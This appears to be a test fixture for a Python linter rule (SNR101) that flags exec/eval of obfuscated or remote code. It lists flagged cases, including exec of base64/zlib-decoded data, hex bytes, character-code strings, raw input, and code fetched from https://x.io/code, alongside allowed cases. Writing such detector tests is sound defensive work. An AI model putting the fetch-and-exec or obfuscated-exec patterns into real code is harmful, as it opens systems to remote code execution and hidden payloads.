import base64
import urllib.request
import zlib

exec(zlib.decompress(base64.b64decode("eJwrKMrMK9FQMtQEABOfAzY=")))  # expect: SNR101
eval(bytes.fromhex("31202b2031"))  # expect: SNR101
exec(urllib.request.urlopen("https://x.io/code").read())  # expect: SNR101
exec("".join(map(chr, [120, 61, 49])))  # expect: SNR101
eval(input())  # expect: SNR101

exec("x = 1")  # ok: it stands here


async def evaluate(ctx, *, code):
    await ctx.send(eval(code))  # ok: a command of the owner, which needs code.exec


icon = base64.b64decode("iVBORw0KGgo=")  # ok: decoded, and not run
